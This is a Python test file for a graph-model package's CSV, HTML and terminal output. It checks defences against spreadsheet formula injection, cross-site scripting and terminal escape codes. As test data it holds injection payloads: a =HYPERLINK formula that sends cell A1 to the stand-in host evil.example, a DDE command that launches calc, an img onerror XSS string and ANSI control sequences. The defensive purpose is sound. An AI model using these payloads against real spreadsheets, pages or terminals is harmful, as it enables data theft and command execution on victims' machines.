"""Tables for others: ids as they came, and on request none that a spreadsheet would compute."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest

from qpignn import Intervals
from qpignn.cli.output import printable
from qpignn.io.csv_output import is_formula, to_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|x",
    "-2+3+cmd|x",
    "@SUM(1+1)",
    "\uff1d1+1",
    '="quoted, with a comma"',
    " =1+1",
    "\u00a0\ufeff@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t5",
]
INSIDE = ["a\r=1+1", "b\r\n=1+1,2", "c\n=1+1", "d;=1+1", "e\t=1+1", 'f"\r"=1+1', "g\u2028=1"]
"""Ids that another row, or another cell, would begin within, if they were not quoted."""
PLAIN = ["-5", "+1e3", "a=b", "x@y.example", "'already", "007"]
IDS = HOSTILE + PLAIN + INSIDE


@pytest.fixture
def fitted(qpignn: Callable[..., Any], tmp_path: Path) -> Path:
    rng = np.random.default_rng(0)
    ids = [*IDS, *(f"n{i}" for i in range(40))]
    frame = pd.DataFrame({"id": ids, "x": rng.uniform(size=len(ids))})
    frame["y"] = (2 * frame["x"]).where(np.arange(len(ids)) >= len(IDS))  # hostile: unlabelled
    frame.to_parquet(tmp_path / "nodes.parquet")  # text files lose spaces around ids
    settings = ("--set", "hidden=4", "--set", "members=5", "--epochs", 1)
    done = qpignn(
        "fit",
        *("--nodes", tmp_path / "nodes.parquet", "--target", "y", "--out", tmp_path / "model"),
        *settings,
    )
    assert done.code == 0, done.err
    return tmp_path / "model"


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as file:
        return [row[0] for row in csv.reader(file)][1:]


def spreadsheet_rows(content: bytes, delimiter: str = ",") -> list[list[str]]:
    """Return the rows that a spreadsheet sees: any of CR, LF and CRLF ends one, unless quoted."""
    text = io.TextIOWrapper(io.BytesIO(content), encoding="utf-8", newline=None)
    return list(csv.reader(text, delimiter=delimiter))


def test_predict_writes_ids_unchanged(
    qpignn: Callable[..., Any], fitted: Path, tmp_path: Path
) -> None:
    for out in (tmp_path / "i.csv", tmp_path / "i.parquet"):
        done = qpignn("predict", fitted, "--out", out)
        assert done.code == 0, done.err
        assert ("--spreadsheet" in done.err) is (out.suffix == ".csv")
    assert cells(tmp_path / "i.csv") == IDS
    assert pd.read_parquet(tmp_path / "i.parquet")["id"].tolist() == IDS


def test_predict_spreadsheet_has_no_formulas(
    qpignn: Callable[..., Any], fitted: Path, tmp_path: Path
) -> None:
    done = qpignn("predict", fitted, "--spreadsheet", "--out", tmp_path / "i.csv")
    assert done.code == 0, done.err
    values = cells(tmp_path / "i.csv")
    assert values == [*(f"'{id}" for id in HOSTILE), *PLAIN, *INSIDE]
    for delimiter in ",;\t|":  # some countries separate cells by another sign
        rows = spreadsheet_rows((tmp_path / "i.csv").read_bytes(), delimiter)
        assert len(rows) == 1 + len(IDS)
        for row in rows:
            for cell in row[:1] if delimiter != "," else row:
                assert cell.lstrip("\ufeff \u00a0\t\r\n")[0] not in "=@\uff1d"
                assert cell[0] not in "+-" or float(cell.split(",")[0])
    done = qpignn("predict", fitted, "--spreadsheet", "--out", tmp_path / "i.parquet")
    assert done.code == 2
    assert "--spreadsheet: expected a .csv file" in done.err


def test_is_formula_every_sign_that_begins_one() -> None:
    assert all(is_formula(f"{sign}5") for sign in "\t\r\n")
    for sign in "=+-@\uff1d\uff0b\uff0d\uff20":
        for before in ("", " ", "\u00a0", "\ufeff", "\0", "\u200b"):
            assert is_formula(f"{before}{sign}x"), (before, sign)
    for harmless in ("x=1", "-5", " -5", "+1e3", "-inf", "", " ", 5):
        assert not is_formula(harmless)


def test_to_csv_carriage_return_ends_no_row() -> None:
    frame = pd.DataFrame({"id": ["a\r=1+1", "b", "c,d"], "x": [1.5, -2.0, 3.0]})
    for spreadsheet in (False, True):
        rows = spreadsheet_rows(to_csv(frame, spreadsheet=spreadsheet))
        assert rows == [["id", "x"], ["a\n=1+1", "1.5"], ["b", "-2.0"], ["c,d", "3.0"]]
        back = pd.read_csv(io.BytesIO(to_csv(frame, spreadsheet=spreadsheet)))
        pd.testing.assert_frame_equal(back, frame)
    plain = frame.iloc[1:]
    assert to_csv(plain) == b'id,x\nb,-2.0\n"c,d",3.0\n'  # quoted only where need be


def test_to_csv_column_names_are_cells_too() -> None:
    frame = pd.DataFrame({"=1+1": ["a"], "x\r=2": [1.0]})
    assert spreadsheet_rows(to_csv(frame, spreadsheet=True))[0] == ["'=1+1", "x\n=2"]
    assert len(spreadsheet_rows(to_csv(frame))) == 2
    assert list(frame.columns) == ["=1+1", "x\r=2"]


def test_intervals_html_escapes_ids() -> None:
    hostile = "<img src=x onerror=alert(1)>"
    shown = Intervals([1.0], [0.0], [2.0], 0.9, [hostile])._repr_html_()
    assert "<img" not in shown
    assert "&lt;img" in shown


def test_control_characters_are_not_printed(qpignn: Callable[..., Any], tmp_path: Path) -> None:
    clear = "\x1b[2J\x1b]0;title\x07"
    assert "\x1b" not in printable(clear)
    assert printable("Größe 90\u00a0% → ∞\n") == "Größe 90\u00a0% → ∞\n"
    kind = np.where(np.arange(40) % 2 == 0, f"{clear}a", "b")
    frame = pd.DataFrame({"id": np.arange(40), f"{clear}kind": kind, "y": np.arange(40.0)})
    frame.to_csv(tmp_path / "nodes.csv", index=False)
    out = tmp_path / "model"
    settings = ("--set", "hidden=4", "--set", "members=5", "--epochs", 1)
    for arguments in (
        ("fit", "--nodes", tmp_path / "nodes.csv", "--target", "y", "--out", out, *settings),
        ("fit", "--nodes", tmp_path / "nodes.csv", "--target", f"{clear}y", "--out", out),
        ("evaluate", out),
        ("report", out, "--by", f"{clear}kind"),
    ):
        done = qpignn(*arguments)
        assert "\x1b[2J" not in done.out + done.err, arguments
        assert "\x07" not in done.out + done.err, arguments
